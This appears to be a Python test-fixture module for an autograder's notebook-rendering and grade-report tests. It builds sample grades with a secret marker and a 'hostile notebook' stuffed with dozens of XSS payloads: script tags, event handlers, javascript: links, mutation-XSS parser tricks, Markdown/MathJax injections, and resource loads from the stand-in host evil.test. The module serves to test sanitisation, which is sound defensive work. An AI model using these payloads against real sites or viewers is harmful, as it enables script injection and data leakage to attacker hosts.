"""Makes grades as a batch would leave them, and a notebook that tries everything on a page.

For the tests of what people read. `SECRET` stands wherever a student must not look.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Sequence
from datetime import datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

from autograder.course.settings import LatePolicy
from autograder.gradebook.combining import grade_of
from autograder.gradebook.grades import AssignmentGrades
from autograder.gradebook.lateness import Deadline
from autograder.grades import Adjustment, Grade, Receipt
from autograder.records import (
    CaseResult,
    Outcome,
    QuestionReport,
    QuestionResult,
    Result,
    Status,
    Visibility,
    total_points,
)

ZONE = ZoneInfo("Europe/Berlin")
DUE = datetime(2026, 10, 19, 23, 59)
QUESTIONS = {"q1": 2.0, "q2": 3.0, "q3": 5.0}
SECRET = "hidden input 48151623"
PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5E"
    "rkJggg=="
)


def questions(*outcomes: Outcome) -> tuple[QuestionResult, ...]:
    """Three questions of a public and a hidden test; the outcomes are taken in turn."""
    made = []
    for number, (name, maximum) in enumerate(QUESTIONS.items()):
        outcome = outcomes[number % len(outcomes)] if outcomes else Outcome.PASSED
        cases = (
            CaseResult(
                name=f"shapes of {name}",
                visibility=Visibility.PUBLIC,
                weight=1.0,
                outcome=outcome,
                message="" if outcome is Outcome.PASSED else f"got 3, expected {number + 4}",
                detail=f"  File a\nAssertionError: {SECRET}",
            ),
            CaseResult(
                name=f"values of {name}",
                visibility=Visibility.HIDDEN,
                weight=3.0,
                outcome=outcome,
                message="" if outcome is Outcome.PASSED else "look at negative numbers",
                detail=f"  File a\nAssertionError: {SECRET}",
            ),
        )
        made.append(QuestionResult.scored(QuestionReport(id=name, cases=cases), maximum))
    return tuple(made)


def result(student: str, *outcomes: Outcome, **fields: Any) -> Result:
    graded = questions(*outcomes)
    values: dict[str, Any] = {
        "submission": f"{student}.ipynb",
        "student": student,
        "assignment": "numbers",
        "release": "2026.1",
        "image": "sha256:0123456789abcdef0123",
        "status": Status.GRADED,
        "points": total_points(graded),
        "maximum": sum(QUESTIONS.values()),
        "questions": graded,
        "notes": (f"a note for the staff: {SECRET}",),
        "seconds": {"total": 1.25, "notebook": 1.0},
    }
    return Result(**(values | fields))


def not_graded(student: str, status: Status, reason: str) -> Result:
    return result(student, status=status, reason=reason, points=0.0, questions=(), seconds={})


def grade(
    found: Result | None,
    student: str = "",
    *,
    path: Path | str = "",
    uploaded: datetime | None = None,
    adjustments: Sequence[Adjustment] = (),
    **receipt: Any,
) -> Grade:
    """The grade of a result, under a policy of 10 % for each started day."""
    came = Receipt(path=str(path), uploaded=uploaded, **receipt) if found else None
    deadline = Deadline(DUE, ZONE, LatePolicy(percent_per_day=10.0))
    name = student or (found.student if found else "")
    return grade_of(name, QUESTIONS, found, came, adjustments, deadline)


def adjustment(**fields: Any) -> Adjustment:
    values: dict[str, Any] = {
        "student": "ada",
        "question": "q1",
        "kind": "manual",
        "points": 1.0,
        "reason": "explained it in the lab",
        "who": "kim",
        "when": datetime(2026, 10, 25, 12, 0, tzinfo=ZONE),
    }
    return Adjustment(**(values | fields))


def graded_class(*grades: Grade, **fields: Any) -> AssignmentGrades:
    values: dict[str, Any] = {
        "assignment": "numbers",
        "title": "Numbers & sequences",
        "questions": tuple(QUESTIONS),
        "maximum": sum(QUESTIONS.values()),
        "release": "2026.1",
        "due": DUE.replace(tzinfo=ZONE),
        "grades": grades,
        "superseded": (),
        "ignored": (),
    }
    return AssignmentGrades(**(values | fields))


def every_kind() -> AssignmentGrades:
    """A class in which every status and every outcome occurs."""
    late = datetime(2026, 10, 21, 9, 30, tzinfo=ZONE)
    outcomes = [outcome for outcome in Outcome if outcome is not Outcome.ERROR]
    grades = [grade(result("ada"), uploaded=datetime(2026, 10, 18, 9, 30, tzinfo=ZONE))]
    grades += [
        grade(result(f"bo{number}", outcome, Outcome.PASSED), uploaded=late)
        for number, outcome in enumerate(outcomes)
    ]
    grades.append(grade(result("cy", Outcome.FAILED), adjustments=[adjustment(student="cy")]))
    grades.append(grade(not_graded("dee", Status.REJECTED, "the zip is damaged")))
    grades.append(grade(not_graded("eve", Status.ERROR, f"q1 could not run: {SECRET}")))
    grades.append(grade(None, "fay"))
    return graded_class(
        *grades,
        superseded=(not_graded("ada", Status.SUPERSEDED, "attempt 2 counts"),),
        ignored=(not_graded("stray", Status.IGNORED, "not a notebook, script or zip"),),
        notes=("an extension names gus, who has no submission",),
    )


# --- notebooks ----------------------------------------------------------------------------------


def code(source: str, *outputs: dict[str, Any]) -> dict[str, Any]:
    return {
        "cell_type": "code",
        "source": source,
        "metadata": {},
        "execution_count": 1,
        "outputs": list(outputs),
    }


def markdown(source: str, **fields: Any) -> dict[str, Any]:
    return {"cell_type": "markdown", "source": source, "metadata": {}, **fields}


def shown(**data: Any) -> dict[str, Any]:
    """An output with these forms: `text_html="…"` is `text/html`."""
    forms = {name.replace("_", "/", 1).replace("__", "+"): value for name, value in data.items()}
    return {"output_type": "display_data", "metadata": {}, "data": forms}


def printed(text: str) -> dict[str, Any]:
    return {"output_type": "stream", "name": "stdout", "text": text}


def write_notebook(file: Path, *cells: dict[str, Any], **fields: Any) -> Path:
    document = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": list(cells), **fields}
    file.write_text(json.dumps(document), encoding="utf-8")
    return file


# Each would leave a trace if it ran: it sets `window.pwned`, navigates, or asks for `evil.test`.
PAYLOADS = (
    "<script>window.pwned=1</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<img src=x onerror=window.pwned=2>",
    "<img src='https://evil.test/pixel.png' srcset='https://evil.test/2x.png 2x'>",
    "<svg onload=window.pwned=3><script>window.pwned=3</script></svg>",
    "<svg><animate onbegin=window.pwned=4 attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zy8+#x'></use></svg>",
    "<iframe srcdoc='<script>parent.pwned=5</script>'></iframe>",
    "<iframe src=javascript:parent.pwned=6></iframe>",
    "<object data='https://evil.test/o'></object><embed src='https://evil.test/e'>",
    "<a id=click1 href=javascript:window.pwned=7>click</a>",
    "<a id=click2 href='jAvA&#x09;script:window.pwned=8'>click</a>",
    "<a id=click3 href='data:text/html,<script>window.pwned=9</script>'>click</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<base href='https://evil.test/'>",
    "<form action='https://evil.test/'><input autofocus onfocus=window.pwned=10><button>x</form>",
    "<button formaction=javascript:window.pwned=11>press</button>",
    "<details open ontoggle=window.pwned=12><summary>x</summary></details>",
    "<video><source onerror=window.pwned=13></video><audio src=x onerror=window.pwned=13>",
    "<body onload=window.pwned=14><body onpageshow=window.pwned=14>",
    "<style>@import url(https://evil.test/a.css);*{background:url(https://evil.test/b)}</style>",
    "<link rel=stylesheet href='https://evil.test/c.css'><link rel=prefetch href=//evil.test/d>",
    "<p style='background:url(https://evil.test/e);position:fixed;inset:0'>over the page</p>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=window.pwned=15&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=16>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=17>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=window.pwned=18>'>",
    "<template><img src=x onerror=window.pwned=19></template>",
    "<xmp><img title='</xmp><img src=x onerror=window.pwned=20>'></xmp>",
    "<textarea><img title='</textarea><img src=x onerror=window.pwned=21>'>",
    "<title></title><img src=x onerror=window.pwned=22>",
    "</pre></div></section></main></body></html><script>window.pwned=23</script>",
    "<!--><img src=x onerror=window.pwned=24>-->",
    "<![CDATA[<img src=x onerror=window.pwned=25>]]>",
    "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=alert(1)>'>",
    "<a href='https://example.org/' ping='https://evil.test/ping' target=_top>a link</a>",
    "<div id=main class=skip onclick=window.pwned=26 contenteditable>same id</div>",
    "<portal src='https://evil.test/'></portal><frameset onload=window.pwned=27>",
    "<marquee onstart=window.pwned=28>x</marquee>",
    "<div style=animation-name:x onanimationstart=window.pwned=29></div>",
)
MARKDOWN = (
    "[link](javascript:window.pwned=30)",
    "![image](https://evil.test/markdown.png)",
    "![attached](attachment:a.svg)",
    "[ref]: javascript:window.pwned=31\n\n[ref]",
    "<https://evil.test/> <javascript:window.pwned=32>",
    '# heading <img src=x onerror="window.pwned=33">',
    '$\\text{<img src=x onerror="window.pwned=34">}$',
    "$$\\href{javascript:window.pwned=35}{x} \\style{background:url(https://evil.test/m)}{y}$$",
    '![$x$](x "$y$" onerror=window.pwned=36)',
    "```html\n<script>window.pwned=37</script>\n```",
)


def hostile_notebook(file: Path) -> Path:
    """A notebook that tries every payload as HTML output, Markdown cell and Markdown output."""
    svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='window.pwned=40'/>"
    encoded = base64.b64encode(svg.encode()).decode()
    cells = [code("1", shown(text_html=payload, text_plain="x")) for payload in PAYLOADS]
    cells += [markdown(payload) for payload in (*PAYLOADS, *MARKDOWN)]
    cells += [code("2", shown(text_markdown=payload)) for payload in (*PAYLOADS[:5], *MARKDOWN)]
    cells += [
        markdown("![a](attachment:a.svg)", attachments={"a.svg": {"image/svg+xml": encoded}}),
        markdown(
            "![a](attachment:b)", attachments={"b": {"image/png": '"onerror="window.pwned=41'}}
        ),
        code("3", shown(**{"application/javascript": "window.pwned=42"}, text_plain="Javascript")),
        code("4", shown(**{"image/svg+xml": svg}, text_plain="SVG")),
        code("5", shown(image_png='"><script>window.pwned=43</script>')),
        code("6", shown(image_png=encoded)),
        code("7", shown(**{"application/vnd.jupyter.widget-view+json": {"model_id": "x"}})),
        code("8", printed("\x1b]8;;javascript:window.pwned=44\x07link\x1b]8;;\x07\x1b[31mred<b>")),
        code(
            "9", {"output_type": "error", "ename": "<b>", "evalue": "<script>", "traceback": [svg]}
        ),
        code(f"'''{svg}''' # </pre><script>window.pwned=45</script>"),
        {"cell_type": "raw", "source": "<script>window.pwned=46</script>", "metadata": {}},
        code("10", shown(image_png=PIXEL, text_plain="<Figure size 1x1>")),
    ]
    widgets = {"application/vnd.jupyter.widget-state+json": {"state": {"x": "</script>" + svg}}}
    return write_notebook(file, *cells, metadata={"widgets": widgets})
